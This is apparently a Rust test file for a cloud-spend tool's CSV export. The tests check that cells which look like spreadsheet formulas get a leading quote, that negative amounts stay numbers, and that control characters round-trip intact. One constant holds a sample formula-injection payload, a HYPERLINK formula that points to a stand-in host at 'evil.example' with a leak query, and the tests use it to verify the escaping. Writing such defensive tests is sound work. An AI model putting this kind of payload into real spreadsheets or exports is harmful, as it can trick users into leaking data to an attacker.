//! CSV exports write the data as received: the writer quotes what CSV needs quoted, and only
//! a cell a spreadsheet would run as a formula gets a leading `'` (unless `raw`).

use chrono::{NaiveDate, TimeZone, Utc};
use sagescope::config::Config;
use sagescope::export::{self, ExportOptions, ExportView, Format};
use sagescope::model::{DataSource, Snapshot, SpendRow};
use sagescope::pricing::{PriceTable, Prices};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";

/// `view` of `snapshot` as CSV, read back with a CSV reader: the header and each record.
fn csv_of(snapshot: &Snapshot, view: ExportView, raw: bool) -> Vec<csv::StringRecord> {
    let config = Config::default();
    let prices = Prices::new(PriceTable::embedded().clone(), Vec::new());
    let measured = sagescope::cost::Measured::new();
    let options = ExportOptions {
        group_by: "project",
        accounts: &config.accounts,
        now: Utc
            .with_ymd_and_hms(2026, 11, 20, 14, 0, 0)
            .single()
            .expect("a time"),
        health: &config.health,
        events: None,
        prices: &prices,
        measured: &measured,
        sort_by_cost: false,
        raw,
        untagged_by_creator: false,
    };
    let mut out = Vec::new();
    export::write(snapshot, view, Format::Csv, &options, &mut out).expect("writes");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(out.as_slice())
        .records()
        .collect::<Result<_, _>>()
        .expect("a CSV reader reads it")
}

fn spend(values: &[(&str, f64)]) -> Snapshot {
    let mut snapshot = Snapshot::empty(DataSource::Cache, Utc::now());
    let day = |d| NaiveDate::from_ymd_opt(2026, 11, d).expect("a date");
    snapshot.spend.rows = values
        .iter()
        .map(|(value, amount)| SpendRow {
            start: day(1),
            end: day(2),
            group_key: "project".into(),
            group_value: (*value).into(),
            amount: *amount,
            unit: "USD".into(),
            estimated: false,
        })
        .collect();
    snapshot
}

/// The cells of column `name` below the header.
fn column(records: &[csv::StringRecord], name: &str) -> Vec<String> {
    let header = &records[0];
    let at = header.iter().position(|h| h == name).expect("the column");
    records[1..].iter().map(|r| r[at].to_string()).collect()
}

#[test]
fn a_tag_value_like_a_formula_is_written_with_a_quote_before_it() {
    let snapshot = spend(&[(FORMULA, 12.5), ("@SUM(A1:A9)", 1.0), ("fraud", 2.0)]);
    let records = csv_of(&snapshot, ExportView::Spend, false);
    assert_eq!(
        column(&records, "group_value"),
        [
            "'=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
            "'@SUM(A1:A9)",
            "fraud"
        ]
    );
}

#[test]
fn a_negative_amount_stays_a_number() {
    // A credit is a negative cost: a quote before it would make it text no sum adds.
    let snapshot = spend(&[("-credit", -1.5), ("fraud", -0.25)]);
    let records = csv_of(&snapshot, ExportView::Spend, false);
    assert_eq!(column(&records, "amount"), ["-1.5", "-0.25"]);
    assert_eq!(column(&records, "group_value"), ["'-credit", "fraud"]);
}

#[test]
fn raw_writes_every_cell_as_received() {
    let snapshot = spend(&[(FORMULA, -1.5), ("-credit", 2.0)]);
    let records = csv_of(&snapshot, ExportView::Spend, true);
    assert_eq!(column(&records, "group_value"), [FORMULA, "-credit"]);
    assert_eq!(column(&records, "amount"), ["-1.5", "2"]);
}

#[test]
fn a_failure_reason_with_a_newline_a_comma_and_control_characters_round_trips() {
    let reason = "AlgorithmError: loss is NaN, stopping\nTraceback: \u{1b}[31mboom\u{1b}[0m\t\"x\"";
    let mut snapshot = sagescope::demo::world(Utc::now());
    snapshot.jobs.rows.truncate(1);
    snapshot.jobs.rows[0].failure_reason = Some(reason.into());
    let records = csv_of(&snapshot, ExportView::Jobs, false);
    assert_eq!(records.len(), 2, "a header and one row: {records:?}");
    assert_eq!(column(&records, "failure_reason"), [reason]);
}
